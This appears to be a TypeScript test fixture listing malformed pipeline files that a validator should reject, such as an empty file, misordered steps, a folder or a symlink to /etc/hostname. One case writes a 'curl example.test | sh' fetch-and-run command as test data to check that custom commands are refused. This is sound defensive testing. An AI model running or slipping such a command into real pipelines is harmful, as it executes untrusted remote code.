import { mkdirSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { type BadInput, edit, put } from "./bad-input.ts";

const FILE = "pipelines/train.yaml";

const bad = (name: string, spoil: BadInput["spoil"], at: string | undefined, says: string, faults = 1): BadInput => ({
  name: `pipeline: ${name}`,
  spoil,
  code: "pipeline-invalid",
  at: at === undefined ? FILE : `${FILE}:${at}`,
  says,
  faults,
});

export const BAD_PIPELINES: readonly BadInput[] = [
  bad("empty", put(FILE, ""), "1:1", "the document is empty"),
  bad("no step", put(FILE, "steps: []\n"), "1:8", "1 to 64 entries"),
  bad("an unknown step", edit(FILE, "uses: fit", "uses: fti"), "8:11", "fit"),
  bad("an input that nothing provides", edit(FILE, "  - uses: split\n", ""), "7:11", "needs a partition", 4),
  bad("steps in the wrong order", put(FILE, "steps:\n  - uses: split\n  - uses: read\n"), "2:11", "needs a table", 2),
  bad("no evaluate", put(FILE, "steps:\n  - uses: read\n  - uses: split\n"), "2:3", "has an evaluate step"),
  bad("65 steps", put(FILE, `steps:\n${"  - uses: read\n".repeat(65)}`), "2:3", "1 to 64 entries"),
  bad(
    "a parameter that the step has not",
    edit(FILE, "with: { leaks: warn }", "with: { leak: warn }"),
    "6:13",
    "leaks",
  ),
  bad("a command of one's own", edit(FILE, "uses: fit", "run: curl example.test | sh"), "8:5", "uses"),
  bad("a web page", put(FILE, "<html></html>\n"), "1:1", "a web page"),
  {
    ...bad(
      "a folder",
      (repo) => {
        rmSync(join(repo, FILE));
        mkdirSync(join(repo, FILE));
      },
      undefined,
      "a folder",
    ),
    code: "repository-invalid",
  },
  {
    ...bad(
      "a link out of the repository",
      (repo) => {
        rmSync(join(repo, FILE));
        symlinkSync("/etc/hostname", join(repo, FILE));
      },
      undefined,
      "a symbolic link",
    ),
    code: "repository-invalid",
  },
];
